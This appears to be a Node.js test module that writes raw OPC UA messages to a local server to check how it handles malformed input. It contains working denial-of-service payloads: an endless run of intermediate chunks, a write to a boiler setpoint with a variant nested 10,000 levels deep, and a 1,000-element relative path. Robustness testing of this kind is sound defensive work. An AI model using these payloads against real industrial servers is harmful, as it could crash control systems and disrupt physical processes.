// Attacks that a client library does not send: written byte by byte on a channel without security.
"use strict";

const net = require("node:net");
const { once } = require("node:events");
const { setTimeout: sleep } = require("node:timers/promises");
const { write } = require("./recorder");

const uint32 = (number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(number >>> 0);
  return bytes;
};
const text = (value) => (value === null ? uint32(-1) : Buffer.concat([uint32(Buffer.byteLength(value)), Buffer.from(value)]));
const numericId = (number) => Buffer.from([1, 0, number & 0xff, number >> 8]);
const nothing = Buffer.from([0, 0]);

/** Request header: null authentication token, no time, the handle, no diagnostics, no audit entry, no hint, no addition. */
const header = (handle) =>
  Buffer.concat([nothing, Buffer.alloc(8), uint32(handle), uint32(0), text(null), uint32(0), nothing, Buffer.from([0])]);

let connections = 0;

/** One TCP connection that says Hello and opens a channel without security. */
class RawChannel {
  constructor(plant) {
    this.plant = plant;
    this.sequence = 0;
    this.connection = `raw ${++connections}`;
    this.received = Buffer.alloc(0);
  }

  async open() {
    this.socket = net.createConnection({ host: "127.0.0.1", port: this.plant.port });
    this.closed = false;
    this.socket.on("data", (data) => { this.received = Buffer.concat([this.received, data]); this.socket.emit("more"); });
    this.socket.on("error", () => {}).on("close", () => { this.closed = true; this.socket.emit("more"); });
    await once(this.socket, "connect");
    write("connected", { connection: this.connection, localAddress: this.socket.localAddress, localPort: this.socket.localPort });

    this.send("HELF", Buffer.concat([uint32(0), uint32(65536), uint32(65536), uint32(0), uint32(0), text(this.plant.url)]));
    await this.message();
    this.sequenced("OPNF", uint32(0), Buffer.concat([
      text("http://opcfoundation.org/UA/SecurityPolicy#None"), text(null), text(null),
    ]), 1, Buffer.concat([numericId(446), header(1), uint32(0), uint32(0), uint32(1), text(null), uint32(600_000)]));
    const answer = await this.message();
    // Policy (its length first), two null byte strings, sequence header, type id, response header, protocol version.
    const body = 12 + 4 + answer.readUInt32LE(12) + 8 + 8;
    const token = body + 4 + 24 + 4;
    this.channelId = answer.readUInt32LE(token);
    this.tokenId = answer.readUInt32LE(token + 4);
    write("token", { connection: this.connection, channelId: this.channelId, tokenId: this.tokenId, renewed: false });
  }

  send(type, body) {
    const chunk = Buffer.concat([Buffer.from(type), uint32(body.length + 8), body]);
    write("chunk", { connection: this.connection, direction: "sent", type, size: chunk.length });
    this.socket.write(chunk);
  }

  sequenced(type, channel, security, requestId, body) {
    this.send(type, Buffer.concat([channel, security, uint32(++this.sequence), uint32(requestId), body]));
  }

  chunk(letter, requestId, body) {
    this.sequenced(`MSG${letter}`, uint32(this.channelId), uint32(this.tokenId), requestId, body);
  }

  /** The next whole message, or null when the server has closed the connection or says nothing for a second. */
  async message() {
    const end = Date.now() + 1000;
    for (;;) {
      if (this.received.length >= 8 && this.received.length >= this.received.readUInt32LE(4)) {
        const size = this.received.readUInt32LE(4);
        const whole = this.received.subarray(0, size);
        this.received = this.received.subarray(size);
        write("chunk", { connection: this.connection, direction: "received", type: whole.toString("latin1", 0, 4), size });
        return whole;
      }
      const left = end - Date.now();
      if (this.closed || left <= 0) return null;
      await Promise.race([once(this.socket, "more"), sleep(left)]);
    }
  }

  close() {
    this.socket.destroy();
  }
}

/** Intermediate chunks of one request, and never a final one. */
async function chunks(plant) {
  const channel = new RawChannel(plant);
  await channel.open();
  const body = Buffer.concat([numericId(631), header(2), Buffer.alloc(2000)]);
  for (let i = 0; i < 3000 && !channel.closed; i++) {
    channel.chunk("C", 2, body);
    if (i % 100 === 99) await sleep(5);
  }
  write("ended", { closedByServer: channel.closed });
  channel.close();
}

/** A write whose value is a variant in a variant in a variant ... */
async function nesting(plant) {
  const channel = new RawChannel(plant);
  await channel.open();
  for (const depth of [10, 100, 1000, 10_000]) {
    // An array of one variant, again and again, around an Int32.
    const variant = Buffer.concat([
      ...Array.from({ length: depth }, () => Buffer.concat([Buffer.from([0x80 | 24]), uint32(1)])),
      Buffer.from([6]), uint32(7),
    ]);
    const nodeToWrite = Buffer.concat([
      Buffer.from([3, 1, 0]), text("Boiler.Setpoint"), uint32(13), text(null), Buffer.from([1]), variant,
    ]);
    channel.chunk("F", depth + 2, Buffer.concat([numericId(673), header(depth + 2), uint32(1), nodeToWrite]));
    const answer = await channel.message();
    write("answered", { depth, answered: answer !== null });
    if (channel.closed) break;
  }
  write("ended", { closedByServer: channel.closed });
  channel.close();
}

/** One relative path of a thousand elements. */
async function paths(plant) {
  const channel = new RawChannel(plant);
  await channel.open();
  const element = Buffer.concat([nothing, Buffer.from([0, 1]), Buffer.from([1, 0]), text("x")]);
  const path = Buffer.concat([nothing, uint32(1000), ...Array.from({ length: 1000 }, () => element)]);
  channel.chunk("F", 2, Buffer.concat([numericId(554), header(2), uint32(1), path]));
  await channel.message();
  write("ended", { closedByServer: channel.closed });
  channel.close();
}

module.exports = { chunks, nesting, paths };
